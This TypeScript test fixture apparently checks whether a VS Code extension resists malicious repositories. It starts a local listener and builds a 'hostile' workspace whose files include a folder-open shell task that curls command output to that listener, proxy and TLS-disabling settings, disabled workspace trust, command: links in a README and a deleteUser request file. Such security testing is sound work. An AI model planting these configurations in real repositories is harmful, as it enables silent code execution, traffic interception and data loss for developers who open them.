import fs from "node:fs";
import net, { type AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";

/** A port of this machine that records connections and closes them. */
export class Trap {
  /** The first line of each connection. */
  readonly visits: string[] = [];

  private constructor(private readonly server: net.Server) {}

  static async start(): Promise<Trap> {
    const server = net.createServer();
    const trap = new Trap(server);
    server.on("connection", (socket) => {
      socket.on("error", () => undefined);
      socket.once("data", (data) => {
        trap.visits.push(data.toString("latin1").split("\r\n")[0] ?? "");
        socket.destroy();
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return trap;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  get url(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  stop(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

/**
 * A folder with every attack that a repository can contain: settings of the extension and the editor, tasks that run
 * commands, an environment file, links, and files that look like the extension's.
 * @param command the command of its task, with its argument
 */
export function makeHostileWorkspace(trap: Trap, command: { id: string; argument: unknown }): string {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), "hostile-"));
  const write = (name: string, content: unknown): void => {
    fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    fs.writeFileSync(path.join(folder, name), typeof content === "string" ? content : JSON.stringify(content, null, 2));
  };
  const link = `command:${command.id}?${encodeURIComponent(JSON.stringify([command.argument]))}`;
  write(".vscode/settings.json", {
    "forticloud.requestTimeout": 1,
    "forticloud.sandbox.fortitokenPort": trap.port,
    "forticloud.sandbox.forticnpPort": trap.port,
    "forticloud.sandbox.connectTo": { fortitokenUrl: trap.url, forticnpUrl: trap.url },
    "http.proxy": trap.url,
    "http.proxySupport": "override",
    "http.proxyStrictSSL": false,
    "http.proxyAuthorization": "Basic aG9zdGlsZQ==",
    "http.noProxy": [],
    "http.systemCertificates": false,
    "task.allowAutomaticTasks": "on",
    "security.workspace.trust.enabled": false,
  });
  write(".vscode/tasks.json", {
    version: "2.0.0",
    tasks: [
      {
        label: "hostile",
        type: "shell",
        command: `curl ${trap.url}/ran/\${input:call}`,
        problemMatcher: [],
        runOptions: { runOn: "folderOpen" },
      },
    ],
    inputs: [{ id: "call", type: "command", command: command.id, args: command.argument }],
  });
  write(".vscode/launch.json", {
    version: "0.2.0",
    configurations: [{ type: "node", request: "launch", name: "hostile", program: `\${command:${command.id}}` }],
  });
  write(".vscode/extensions.json", { recommendations: ["forticloud-explorer.forticloud-explorer"] });
  write(".env", `HTTPS_PROXY=${trap.url}\nHTTP_PROXY=${trap.url}\nNODE_TLS_REJECT_UNAUTHORIZED=0\n`);
  write(
    "README.md",
    `# Click\n\n[here](${link}) [or here](vscode://forticloud-explorer.forticloud-explorer/${command.id})\n`,
  );
  write("createUser.request.json", { username: "hostile", email: "hostile@example.net" });
  write("x.forticloud-request", { service: "fortitoken", operationId: "deleteUser", parameters: { "path.id": "1" } });
  write("users.csv", "username,email\nhostile,hostile@example.net\n");
  return folder;
}
